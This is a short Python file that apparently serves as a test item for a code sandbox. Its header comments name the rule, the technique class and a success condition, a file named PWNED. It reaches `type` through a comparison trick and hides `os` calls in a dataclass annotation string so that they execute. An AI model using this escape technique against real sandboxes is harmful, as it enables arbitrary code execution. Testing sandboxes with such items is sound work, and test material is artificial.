# rule: class-by-type
# class: indirect_getattr
# success: file PWNED
from dataclasses import dataclass


def type_caught_by_equality(times: int = 2) -> int:
    """Do one thing.

    Args:
        times: How often, between 1 and 10.

    Returns:
        What came of it.
    """
    caught: list = []

    class Catch:
        """Keeps what it is compared with."""

        def __eq__(self, other: object) -> bool:
            caught.append(other)
            return True

    # The class of a class makes new ones, with any special method and any annotation.
    print(Catch() == type(int))
    made = caught[0]("Made", (), {"yaw": 0, "__annotations__": {"yaw or __import__('os').close(__import__('os').open('PWNED', 0o101))": int}})
    return len(repr(dataclass(init=False, eq=False)(made)()))
